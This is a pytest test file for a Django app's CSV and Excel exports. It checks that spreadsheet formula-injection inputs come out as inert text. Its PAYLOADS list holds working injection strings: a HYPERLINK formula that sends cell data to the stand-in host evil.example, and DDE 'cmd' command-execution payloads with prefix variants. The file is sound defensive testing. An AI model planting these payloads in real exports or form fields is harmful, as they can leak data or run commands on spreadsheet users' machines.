"""Safe files: formula payloads fed through every export, report workbook and rejects file come
out as text, never as a live cell (lib/exports.py is the one writer)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from clientdesk.accounts import actions as account_actions
from clientdesk.financials import exports as financial_exports
from clientdesk.financials.adjudication import OptionResult, PlanDesign
from clientdesk.financials.renewal import Projection, Step
from clientdesk.guarantees import exports as guarantee_exports
from clientdesk.guarantees.tests.cast import acme_guarantee
from clientdesk.inquiries import actions as inquiry_actions
from clientdesk.lib.exports import FORMULA_STARTS, csv_bytes, safe_cell, xlsx_bytes
from clientdesk.reports.documents import Column, ReportDocument, Section, Table
from clientdesk.reports.workbook import render_workbook
from clientdesk.testing import Cast
from clientdesk.utilization import exports as utilization_exports

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _live(text: Any) -> bool:
    """A text a spreadsheet would run; a plain negative number (a CSV has only text) is not."""
    return (
        isinstance(text, str)
        and text.startswith(FORMULA_STARTS)
        and not re.fullmatch(r"-[0-9]+(\.[0-9]+)?", text)
    )


def csv_cells(content: bytes | str) -> list[str]:
    text = content.decode() if isinstance(content, bytes) else content
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def xlsx_cells(content: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(content))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"live formula in {sheet.title}!{cell.coordinate}"
                cells.append(cell.value)
    return cells


def assert_safe(cells: list[Any], *, expect: list[str]) -> None:
    assert not [c for c in cells if _live(c)], [c for c in cells if _live(c)]
    for payload in expect:
        assert "'" + payload in cells, payload  # still there, as text


def test_the_writer_keeps_numbers_and_neutralises_text() -> None:
    assert safe_cell(-12.5) == -12.5 and safe_cell(3) == 3
    assert safe_cell("Acme") == "Acme"
    assert [safe_cell(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    assert_safe(csv_cells(csv_bytes(["h"], [[p] for p in PAYLOADS])), expect=PAYLOADS)
    assert_safe(xlsx_cells(xlsx_bytes([("S", ["h"], [[p] for p in PAYLOADS])])), expect=PAYLOADS)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_inquiry_export_writes_payloads_as_text(cast: Cast, client: Client, fmt: str) -> None:
    for payload in PAYLOADS:
        inquiry_actions.do_create_inquiry(
            cast.acme,
            {
                "requester_type": "sponsor",
                "channel": "email",
                "category": "claims",
                "priority": "normal",
                "subject": payload,
                "owner": cast.alice,
            },
            acting_user=cast.alice,
        )
    client.force_login(cast.mia)
    response = client.get(reverse("inquiries:export"), {"format": fmt})
    assert response.status_code == 200
    cells = csv_cells(_body(response)) if fmt == "csv" else xlsx_cells(_body(response))
    assert_safe(cells, expect=[p for p in PAYLOADS if p.strip() == p])


def _body(response: Any) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return bytes(response.content)


def _rename_acme(cast: Cast, name: str) -> None:
    account_actions.do_update_account(cast.acme, {"name": name}, acting_user=cast.mia)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_guarantee_exports_write_an_account_name_as_text(
    cast: Cast, client: Client, fmt: str
) -> None:
    payload = PAYLOADS[0]
    acme_guarantee(cast)
    _rename_acme(cast, payload)
    client.force_login(cast.mia)
    response = client.get(reverse("guarantees:portfolio_export", args=[fmt]))
    assert response.status_code == 200
    cells = csv_cells(_body(response)) if fmt == "csv" else xlsx_cells(_body(response))
    assert_safe(cells, expect=[payload])
    rows = [{"label": p, "amount": -5} for p in PAYLOADS]
    assert_safe(csv_cells(guarantee_exports.to_csv(["label", "amount"], rows)), expect=PAYLOADS)
    xlsx = guarantee_exports.to_xlsx(["label", "amount"], rows, sheet="G")
    assert_safe(xlsx_cells(xlsx), expect=PAYLOADS)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_utilization_tables_write_payloads_as_text(fmt: str) -> None:
    table = utilization_exports.Table(
        name="book",
        title="Book",
        headers=("Account", "PMPM"),
        rows=[(p, -1.5) for p in PAYLOADS],
        kinds=("text", "money"),
    )
    content, _ = utilization_exports.render(table, fmt)
    cells = csv_cells(content) if fmt == "csv" else xlsx_cells(content)
    assert_safe(cells, expect=[p for p in PAYLOADS if p.strip() == p])
    assert ("-1.5" if fmt == "csv" else -1.5) in cells  # a negative number stays a number


def test_report_workbooks_write_titles_and_cells_as_text() -> None:
    table = Table(
        key="escalations",
        title=PAYLOADS[0],
        source=PAYLOADS[1],
        columns=[Column(PAYLOADS[2]), Column("Amount", "money")],
        rows=[[p, -3] for p in PAYLOADS],
        note=PAYLOADS[3],
    )
    document = ReportDocument(
        kind="stewardship",
        title=PAYLOADS[4],
        subtitle="",
        period_code="2026Q1",
        period_label="Q1 2026",
        data_period="",
        paid_through=dt.date(2026, 3, 31),
        generated_at=timezone.now(),
        generated_by="mia",
        warnings=[PAYLOADS[1]],
        sections=[Section(key="s", title="S", tables=[table])],
    )
    cells = xlsx_cells(render_workbook(document))
    assert_safe(cells, expect=PAYLOADS[:4])
    assert -3 in cells


def test_financial_workbooks_write_scenario_and_option_names_as_text(cast: Cast) -> None:
    """The renewal and plan-options workbooks (rows from the lake): names typed by a person."""
    _rename_acme(cast, PAYLOADS[0])
    cast.acme.refresh_from_db()
    steps = [Step(p, -1.5, "$", p) for p in PAYLOADS]
    projections = [Projection(p, None, steps) for p in PAYLOADS]  # type: ignore[arg-type]
    assert_safe(xlsx_cells(financial_exports.renewal_xlsx(cast.acme, projections)), expect=PAYLOADS)
    results = [
        OptionResult(PlanDesign(p, 500, 20, 3000), 1, 1, 0, 0.8, 1.0, 1, 1, 0, None, 0, [])
        for p in PAYLOADS
    ]
    cells = xlsx_cells(financial_exports.options_xlsx(cast.acme, PAYLOADS[1], results))
    assert_safe(cells, expect=PAYLOADS)
